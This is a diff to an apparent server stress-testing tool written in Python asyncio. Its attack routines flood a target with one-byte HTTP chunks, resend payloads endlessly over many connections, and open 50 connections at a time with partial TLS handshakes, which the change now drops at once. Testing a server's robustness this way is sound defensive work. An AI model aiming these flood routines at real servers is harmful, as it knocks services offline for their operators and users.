@@ -29,12 +29,12 @@ async def chunk_flood(attacker: Attacker, method: str, path: str, n_bytes: int) 
     await attacker.send_once(chunked_head(method, path) + ONE_BYTE_CHUNK * (n_bytes // len(ONE_BYTE_CHUNK)) + b"0\r\n\r\n")
 
 
-async def over_and_over(attacker: Attacker, payload: bytes, connections: int) -> None:
-    """The payload again and again over this many new connections, without waiting for more than an answer's head."""
+async def over_and_over(attacker: Attacker, payload: bytes, connections: int, *, waits: bool = True) -> None:
+    """The payload again and again over this many new connections, which wait for no more than an answer's head."""
 
     async def one() -> None:
         while True:
-            if not await attacker.send_once(payload):
+            if not await attacker.send_once(payload, waits=waits):
                 await asyncio.sleep(0.02)
 
     await asyncio.gather(*(one() for _ in range(connections)))
@@ -142,9 +142,9 @@ async def garbage(attacker: Attacker) -> None:
 
 @attack(NO_KEY)
 async def tls_hello(attacker: Attacker) -> None:
-    """The beginning of a TLS handshake, over 50 new connections at a time."""
-    hello = bytes.fromhex("16030102000100 01fc0303".replace(" ", "")) + os.urandom(508)
-    await over_and_over(attacker, hello, 50)
+    """The beginning of a TLS handshake, over 50 new connections at a time, which are left at once."""
+    hello = bytes.fromhex("1603010200010001fc0303") + os.urandom(508)
+    await over_and_over(attacker, hello, 50, waits=False)
 
 
 @attack(NO_KEY)
